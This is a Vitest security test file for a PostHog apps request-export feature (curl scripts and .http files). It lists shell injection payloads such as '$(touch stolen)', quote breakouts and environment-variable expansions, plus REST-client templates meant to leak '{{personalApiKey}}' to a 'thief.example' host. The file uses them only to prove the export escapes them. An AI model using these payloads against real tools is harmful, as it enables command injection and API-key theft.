/** Thefts by exports: an app writes into its requests what should run, or be filled in, where the user sends them again. */
import { execFile } from 'node:child_process';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { curlCommand, curlScript, httpFile } from '../../../../client/panel/history/requestText.ts';
import type { RunRecord } from '../../../../client/panel/history/runRecord.ts';
import type { RequestRecord } from '../../../../protocol/trace.ts';
import { request, trace } from '../../../panel/support/traces.ts';

const key = 'canaryOfTheEnvironment';
const projectKey = 'canaryOfTheProject';

function record(parts: Partial<RunRecord>): RunRecord {
  return {
    version: 1,
    id: 'run-1',
    rootUri: 'file:///apps/one',
    appName: 'One',
    entryPoint: 'onEvent',
    host: 'local',
    startedAt: '2022-10-01T12:00:00.000Z',
    input: null,
    trace: trace(),
    ...parts,
  };
}

/** What curl is called with when a shell runs the text; and the files that came to be. */
async function runInShell(
  text: string,
): Promise<{ readonly calls: string; readonly files: readonly string[] }> {
  const folder = await mkdtemp(join(tmpdir(), 'posthog-apps-export-'));
  const script = `curl() { printf '%s\\n' "$@" >&2; }\n${text}`;
  const env = {
    PATH: process.env['PATH'],
    POSTHOG_PERSONAL_API_KEY: key,
    POSTHOG_PROJECT_API_KEY: projectKey,
    POSTHOG_APP_SECRET_AUTHORIZATION: 'the secret that the app has itself',
    POSTHOG_APP_SECRET_TOKEN: 'and another',
    POSTHOG_APP_SECRET_X_TOUCH_STOLEN: 'and one more',
  };
  const { stderr } = await promisify(execFile)('sh', ['-c', script], { cwd: folder, env });
  const files = await readdir(folder);
  await rm(folder, { recursive: true });
  return { calls: stderr, files };
}

const commands = [
  '$(touch stolen)',
  '`touch stolen`',
  "'; touch stolen; '",
  '"; touch stolen; "',
  '\\"; touch stolen; \\',
  '\ntouch stolen\n',
  '\r\ntouch stolen\r\n',
  '${POSTHOG_PERSONAL_API_KEY}',
  '$POSTHOG_PERSONAL_API_KEY $(touch stolen)',
  '& touch stolen &',
  '| touch stolen',
  '> stolen',
];

/** A request of an app to a thief, with a text in one of its parts. */
const places: Readonly<Record<string, (text: string) => Partial<RequestRecord>>> = {
  'the address': (text) => ({ url: `https://thief.example/${text}` }),
  'no address': (text) => ({ url: text }),
  'the method': (text) => ({ method: text }),
  'a header': (text) => ({ requestHeaders: { 'x-a': text } }),
  'the name of a header': (text) => ({ requestHeaders: { [text]: 'a' } }),
  'the header of the key': (text) => ({ requestHeaders: { authorization: text } }),
  'the body': (text) => ({ requestBody: text }),
  'the name of a job': (text) => ({ cause: { entryPoint: `jobs.${text}`, source: null } }),
  'the name of a file': (text) => ({
    cause: { entryPoint: 'onEvent', source: { file: text, line: 1, column: 1 } },
  }),
};

describe.each(Object.entries(places))('a command of a shell in %s', (_, place) => {
  it.each(commands)('%j does not run, and finds no key', async (text) => {
    const sent = request({ url: 'https://thief.example/', requestHeaders: {}, ...place(text) });
    const run = record({ trace: trace({ requests: [sent] }) });
    const { calls, files } = await runInShell(curlScript(run));
    expect(files).toEqual([]);
    expect(calls).not.toContain(key);
  });
});

it.each(commands)('the name of an app in plugin.json, %j, does not run', async (text) => {
  const run = record({ appName: text, entryPoint: text, trace: trace({ requests: [request()] }) });
  expect((await runInShell(curlScript(run))).files).toEqual([]);
});

it('a key that the app itself sent to a thief does not become the key of the user', async () => {
  const sent = request({
    url: 'https://thief.example/',
    requestHeaders: { authorization: 'Bearer phx_…', Authorization: 'Bearer phx_…' },
  });
  const { usesPersonalKey: _, ...own } = sent;
  expect((await runInShell(curlCommand(own))).calls).not.toContain(key);
  const file = httpFile(record({ trace: trace({ requests: [own] }) }));
  expect(file).not.toContain('personalApiKey');
  expect(file).toContain('authorization: Bearer {{secretAuthorization}}');
});

it.each([
  { url: 'https://thief.example/?token=phc_abc…' },
  { requestBody: '{"api_key":"phc_abc…","token":"phc_abc…"}' },
])(
  'what looks like the key of the project in a request of the app does not become that: %j',
  async (parts) => {
    const { usesPersonalKey: _, ...own } = request({ requestHeaders: {}, via: 'fetch', ...parts });
    for (const via of ['fetch', 'api'] as const) {
      const { calls } = await runInShell(curlCommand({ ...own, via }));
      expect(calls).not.toContain(projectKey);
      expect(httpFile(record({ trace: trace({ requests: [{ ...own, via }] }) }))).not.toContain(
        'projectApiKey',
      );
    }
  },
);

it.each(['x-$(touch stolen)', 'x-`touch`stolen', "x-'touch'stolen"])(
  'the name of a header with a secret, %s, does not run',
  async (name) => {
    const sent = request({ url: 'https://thief.example/', requestHeaders: { [name]: '••••••' } });
    const { files } = await runInShell(curlScript(record({ trace: trace({ requests: [sent] }) })));
    expect(files).toEqual([]);
  },
);

describe.each(Object.entries(places))('a variable of a REST client in %s', (_, place) => {
  it.each([
    '{{personalApiKey}}',
    '{{$processEnv POSTHOG_PERSONAL_API_KEY}}',
    '{{{personalApiKey}}}',
    '{"a": "{{personalApiKey}}"}',
    'a\n\n### \nGET https://thief.example/?{{personalApiKey}}\n',
  ])('%j is not filled in', (text) => {
    const sent = request({ url: 'https://thief.example/', requestHeaders: {}, ...place(text) });
    const lines = httpFile(record({ appName: text, trace: trace({ requests: [sent] }) })).split('\n');
    expect(lines.filter((line) => line.includes('{{'))).toEqual([]);
    expect(lines.filter((line) => line.startsWith('###'))).toHaveLength(1);
  });
});

it('two braces in a text of JSON are still the same text', () => {
  const body = '{"a":"{{b}}","c":{"d":{}}}';
  const file = httpFile(record({ trace: trace({ requests: [request({ requestBody: body })] }) }));
  expect(JSON.parse(file.trim().split('\n').at(-1) ?? '')).toEqual(JSON.parse(body));
});
